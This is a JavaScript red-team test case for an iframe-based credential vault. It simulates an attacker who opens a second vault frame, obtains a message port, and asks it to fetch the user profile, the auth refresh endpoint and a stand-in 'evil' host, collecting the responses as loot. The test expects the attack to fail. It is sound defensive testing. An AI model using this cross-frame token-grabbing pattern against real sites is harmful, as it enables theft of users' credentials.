// A real attacker: opens a second frame of the vault beside the application's, with a port of their own, and asks it
// for everything.
export default {
  row: "frames",
  expected: [null, "loses"],
  after: async ({ api, evil, vault }) => {
    const { redteam } = globalThis;
    const frame = document.createElement("iframe");
    frame.src = `${vault}/`;
    const { port1, port2 } = new MessageChannel();
    const statuses = [];
    port1.onmessage = ({ data }) => {
      statuses.push(data[2]);
      redteam.loot(data.filter((part) => typeof part !== "object"));
    };
    const far = [port2];
    addEventListener("message", ({ source }) => {
      if (source === frame.contentWindow)
        frame.contentWindow.postMessage("strongroom:port", vault, far.splice(0));
    });
    document.body.append(frame);
    let id = 0;
    for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${vault}/auth/refresh`, `${vault}/`]) {
      port1.postMessage([0, ++id, url, [], { method: "GET" }, true]);
    }
    await new Promise((resolve) => setTimeout(resolve, 2500));
    return statuses;
  },
};
